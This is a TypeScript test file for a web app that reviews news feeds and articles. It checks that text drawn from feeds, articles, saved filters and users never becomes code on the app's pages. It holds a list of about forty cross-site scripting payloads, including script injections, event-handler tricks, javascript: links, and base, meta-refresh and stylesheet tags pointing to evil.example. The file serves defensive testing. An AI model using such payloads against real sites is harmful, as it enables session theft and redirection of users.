import { brotliCompressSync } from 'node:zlib';
import { load } from 'cheerio';
import { eq, sql } from 'drizzle-orm';
import fc from 'fast-check';
import type { Page } from 'playwright-core';
import { expect, inject, test } from 'vitest';
import type { Deps } from '../../src/deps.js';
import {
  articles,
  commitmentSteps,
  commitments,
  decisions,
  feeds,
  mails,
  polls,
  recipients,
  savedFilters,
  snapshots,
  tokens,
} from '../../src/io/db/schema.js';
import { createApp } from '../../src/web/app.js';
import { newStore } from '../support.js';
import { openPage, serveApp } from './browser.js';
import { furnish } from './furnish.js';
import { addSample, manyArticles, person, webDeps } from './sample.js';

const act = 'window.broken=1';

/** Texts that become code wherever one escape is missing: in text, in an attribute, in an address, in a script, in a style. */
const hostile = [
  `<script>${act}</script>`,
  `"><script>${act}</script>`,
  `'><img src=x onerror=${act}>`,
  `" autofocus onfocus=${act} x="`,
  `' onmouseover='${act}`,
  `\` onload=${act}`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<math><mi//xlink:href="data:x,<script>${act}</script>">`,
  `<iframe srcdoc="<script>parent.${act}</script>">`,
  `<iframe src="javascript:parent.${act}">`,
  `<img srcset="x" src=x onerror=${act}>`,
  `<body onload=${act}>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<object data="javascript:${act}">`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}" id=trap>x</a>`,
  `<form action="https://evil.example"><button>x`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</option></select><script>${act}</script>`,
  `</mark></p></section><script>${act}</script>`,
  `<xmp><script>${act}</script></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<!--><script>${act}</script>-->`,
  `<![CDATA[><script>${act}</script>]]>`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}`,
  `\u003cscript\u003e${act}\u003c/script\u003e`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<custom-element onclick=${act} style="position:fixed;inset:0">`,
  `\u202e<script>${act}</script>\u202c`,
  `<<SCRIPT>${act}//<</SCRIPT>`,
];

/** Puts hostile texts wherever a feed, a page or a person can put one. */
async function poison({ db }: Pick<Deps, 'db'>, ids: number[]): Promise<void> {
  for (const [index, text] of hostile.entries())
    await db
      .update(articles)
      .set({ title: `Iran ${text}`, authors: [text], language: `en"${text}`, url: text })
      .where(eq(articles.id, ids[index]!));
  const all = hostile.join(' ');
  await db.update(feeds).set({ name: all, alignment: hostile[0]!, family: hostile[1]!, reliability: hostile[3]! });
  await db.update(polls).set({ failure: all });
  await db.update(savedFilters).set({ name: all, query: `q=${encodeURIComponent(all)}` });
  await db.update(tokens).set({ name: all });
  await db.update(mails).set({ subject: all, failure: all });
  await db.update(recipients).set({ address: all });
  await db.execute(sql`alter table commitments disable trigger user`);
  await db.update(commitments).set({ title: all });
  await db.execute(sql`alter table commitment_steps disable trigger user`);
  await db.update(commitmentSteps).set({ note: all, reviewer: hostile[1]! });
  await db.execute(sql`alter table decisions disable trigger user`);
  await db.update(decisions).set({ note: all, reviewer: all, reason: hostile[1]! });
  await db.update(snapshots).set({ title: all, text: sql`text || ${all}`, sha256: all });
}

/** What no text of others may bring into a page. Our own charts have a name. */
const dangers = (page: Page) =>
  page.evaluate(() => ({
    broken: 'broken' in window,
    scripts: [...document.scripts].map(({ src }) => new URL(src).pathname),
    elements: document.querySelectorAll(
      'iframe,object,embed,svg:not([aria-label]),math,img,video,base,style,meta[http-equiv],template',
    ).length,
    handlers: [...document.querySelectorAll('*')].flatMap(({ attributes }) =>
      [...attributes].filter(({ name }) => name.startsWith('on') || name === 'style'),
    ).length,
    links: [...document.links].filter(({ protocol }) => !/^https?:$/.test(protocol)).length,
  }));

const harmless = { broken: false, scripts: ['/review.js'], elements: 0, handlers: 0, links: 0 };

test.skipIf(!inject('chromium'))(
  'no text of a feed, an article, a page or a person becomes code on any page',
  async () => {
    const { deps, user, pages } = await furnish(hostile[4]);
    const ids = await addSample(deps, manyArticles(hostile.length));
    await poison(deps, ids);
    const address = await serveApp(createApp(deps, user));
    const { page, complaints } = await openPage(address);
    const outside: string[] = [];
    page.on('request', (request) => request.url().startsWith(address) || outside.push(request.url()));
    page.on('dialog', (dialog) => complaints.push(dialog.message()));
    const { snapshot, ...others } = pages;
    const search = `/?in=all&q=${encodeURIComponent(`Iran ${hostile[1]}`)}`;
    for (const path of [...Object.values(others), search, ...ids.map((id) => `/articles/${id}`)]) {
      expect.soft((await page.goto(path))?.status(), path).toBe(200);
      expect.soft(await dangers(page), path).toEqual(harmless);
    }
    for (const body of ['<svg xmlns="http://www.w3.org/2000/svg">', '%PDF-1.7 ', 'GIF89a', '<!doctype html>']) {
      await deps.db.update(snapshots).set({ body: brotliCompressSync(body + hostile.join('\n')) });
      await deps.db.update(snapshots).set({ headers: { 'content-type': `text/html; charset="utf-8${hostile[1]}` } });
      await page.goto(snapshot);
      expect(await page.locator('body *').evaluateAll((all) => all.map(({ tagName }) => tagName))).toEqual(['PRE']);
      expect(await page.evaluate(() => 'broken' in window)).toBe(false);
    }
    expect(outside).toEqual([]);
    expect(complaints).toEqual([]);
  },
  180_000,
);

test('nothing that is typed comes back as code, however it is put together', async () => {
  const store = await newStore();
  await addSample(store);
  const app = createApp(webDeps(store), await person(store, 'Anna', 'admin'));
  const typed = fc.array(fc.oneof(fc.constantFrom(...hostile), fc.string(), fc.constantFrom('"', "'", '<', '>', '&')));
  await fc.assert(
    fc.asyncProperty(typed, fc.constantFrom('q', 'source', 'assignee', 'language'), async (parts, name) => {
      const path = `/?${new URLSearchParams({ in: 'all', q: 'Iran', [name]: parts.join('') })}`;
      const answer = await app.request(`http://127.0.0.1${path}`, { headers: { host: '127.0.0.1' } });
      const page = load(await answer.text());
      expect(page('script').length).toBe(1);
      expect(page('iframe,object,embed,math,img,video,base,style,meta[http-equiv],template,svg').length).toBe(0);
      expect(page('[onerror],[onload],[onfocus],[ontoggle],[onclick],[onmouseover],[style],[srcdoc]').length).toBe(0);
    }),
    { numRuns: 100 },
  );
});
